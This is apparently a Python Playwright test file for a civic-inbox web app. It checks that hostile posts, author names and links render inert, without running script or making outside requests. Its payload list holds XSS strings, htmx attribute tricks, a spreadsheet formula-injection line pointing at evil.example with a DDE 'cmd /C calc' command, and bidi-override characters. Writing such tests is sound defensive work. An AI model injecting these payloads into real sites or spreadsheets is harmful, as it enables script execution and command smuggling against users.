"""What strangers write does nothing on the page, however it is written."""

from __future__ import annotations

from playwright.sync_api import Page, Request

from levelhead.inbox.models import Case
from tests.browser.base import PHONE, WIDE, BrowserTestCase

PAYLOADS = [
    "<script>window.harmed = 1</script> when do you open?",
    "<img src=x onerror='window.harmed = 1'> is the lobby open?",
    '"><svg onload=window.harmed=1> when do you open?',
    "</textarea><script>window.harmed=1</script>",
    "javascript:window.harmed=1 see javascript://%0awindow.harmed=1",
    "{{ 7 | add: 7 }} {% csrf_token %} ${window.harmed=1}",
    "=HYPERLINK(\"http://evil.example/\"&A1) @SUM(1+1)*cmd|' /C calc'!A0",
    'https://evil.example/" onmouseover="window.harmed=1',
    "https://evil.example/<script>window.harmed=1</script>",
    "<a hx-get='/accounts/logout/' hx-trigger=load>x</a> <div hx-on:load='window.harmed=1'>",
    "safe \u202etxt.exe\u202c and \u2066hidden\u2069 marks",
    "Z" + "\u0351\u0352\u0353" * 400 + "algo when do you open",
    "W" * 5_000,
    "null \x00 and \x1b[31m control \ud800 surrogate",
    "لماذا لا تجيبون على أسئلتنا؟ when do you open",
]
NAME = "<b onmouseover=window.harmed=1>Eve\u202e</b>"


class HostileTests(BrowserTestCase):
    def watch(self, page: Page) -> None:
        """Note every request that leaves for another place than ours."""
        self.outside: list[str] = []

        def hear(request: Request) -> None:
            ours = (self.live_server_url, self.streams.url, "data:")
            if not request.url.startswith(ours):
                self.outside.append(request.url)

        page.on("request", hear)
        page.on("dialog", lambda dialog: self.noise.append(f"dialog: {dialog.message}"))

    def assert_unharmed(self, page: Page, what: str) -> None:
        self.assertIsNone(page.evaluate("window.harmed ?? null"), what)
        self.assertEqual(self.outside, [], what)

    def file(self, text: str) -> Case:
        return self.file_case(
            text=text, author_name=NAME, author_handle="<script>window.harmed=1</script>",
            url="javascript:window.harmed=1",
        )  # fmt: skip

    def test_lists_and_conversations_stay_inert(self) -> None:
        cases = [self.file(text) for text in PAYLOADS]
        for size in (WIDE, PHONE):
            with self.window(self.alice, size=size) as page:
                self.watch(page)
                page.goto("/riverton/inbox/?view=all")
                self.assert_unharmed(page, "list")
                self.assert_fits(page, "list")
                self.assertEqual(page.locator("#rows b, #rows img, #rows script").count(), 0)
                for case in cases:
                    page.goto(f"/riverton/inbox/{case.pk}/")
                    page.locator(".post-focus").hover()
                    self.assert_unharmed(page, case.post.text[:40])
                    self.assert_fits(page, case.post.text[:40])
                    inside = (
                        ".post-focus :is(img, script, b, iframe, form, [onmouseover], [hx-get])"
                    )
                    self.assertEqual(page.locator(inside).count(), 0, case.post.text[:40])
                    for link in page.locator(".post-focus a").all():
                        self.assertRegex(
                            link.get_attribute("href") or "", "^(https?://|/riverton/)"
                        )

    def test_what_was_written_is_shown_as_it_was_written(self) -> None:
        case = self.file(PAYLOADS[0])
        with self.window(self.alice) as page:
            page.goto(f"/riverton/inbox/{case.pk}/")
            shown = page.locator(".post-focus .post-text").first.inner_text()
            self.assertEqual(shown.strip(), PAYLOADS[0])

    def test_a_link_leads_out_without_telling_where_from(self) -> None:
        case = self.file("Look: https://news.example/story?a=1&b=2. And https://user@evil.example")
        with self.window(self.alice) as page:
            page.goto(f"/riverton/inbox/{case.pk}/")
            link = page.locator(".post-focus .post-text a").first
            self.assertEqual(link.get_attribute("href"), "https://news.example/story?a=1&b=2")
            self.assertEqual(link.get_attribute("target"), "_blank")
            for word in ("noopener", "nofollow", "ugc"):
                self.assertIn(word, link.get_attribute("rel") or "")

    def test_hidden_controls_are_seen(self) -> None:
        case = self.file("safe \u202etxt.exe\u202c")
        with self.window(self.alice) as page:
            page.goto(f"/riverton/inbox/{case.pk}/")
            text = page.locator(".post-focus .post-text").inner_text()
            self.assertNotIn("\u202e", text)
            self.assertIn("RLO", text)
            self.assertNotIn("\u202e", page.title())

    def test_a_text_of_a_hundred_thousand_characters_is_folded(self) -> None:
        case = self.file("When do you open? " + "word " * 19_900)
        with self.window(self.alice, size=PHONE) as page:
            page.goto(f"/riverton/inbox/{case.pk}/")
            page.locator(".post-focus .fold summary").wait_for()
            tall = page.locator(".post-focus").bounding_box()
            assert tall is not None
            self.assertLess(tall["height"], 1_200)
            page.locator(".post-focus .fold summary").click()
            self.assert_fits(page, "unfolded")

    def test_a_draft_of_a_hundred_thousand_characters_does_not_freeze_the_page(self) -> None:
        family = "\U0001f468\u200d\U0001f469\u200d\U0001f467 "
        for what, size in (("y", 100_000), (family, 40_000)):
            long = (what * size)[:size]
            with self.subTest(what), self.window(self.alice, size=PHONE) as page:
                page.goto(f"/riverton/inbox/{self.file(f'When do you open? {len(what)}').pk}/")
                self.watch(page)
                # Long for a machine that does other things too; frozen it took many minutes.
                page.set_default_timeout(60_000)
                field = page.locator("#reply-text")
                # Not `fill`: a failure would print it all.
                field.evaluate("(field, text) => { field.value = text; field.focus(); }", long)
                field.dispatch_event("input")
                with page.expect_response("**/reply/") as answer:
                    field.press("Control+Enter")
                self.assertEqual(answer.value.status, 400)
                # The page answers again, and the words are still there.
                page.locator(".usa-alert--error").first.wait_for()
                self.assertTrue(field.input_value() == long)
                field.press("Control+End")
                page.keyboard.type("z")
                self.assertTrue(field.input_value().endswith("z"))
                self.assert_fits(page, what)

    def test_ten_thousand_answers_are_paged(self) -> None:
        top = self.file_post(text="What do you think of the new bus lane?")
        self.receive(
            *[
                self.incoming(text=f"answer {n}", parent_external_id=top.external_id)
                for n in range(10_000)
            ]
        )
        with self.window(self.alice) as page:
            page.goto(f"/riverton/inbox/{top.pk}/")
            self.assertLess(page.locator("article.post").count(), 120)
            page.get_by_role("link", name="More answers").click()
            page.locator("[data-thread=answers]").wait_for()
            self.assertLess(page.locator("article.post").count(), 120)
            self.assertNotIn("answer 0", page.locator("[data-thread=answers]").all_inner_texts())
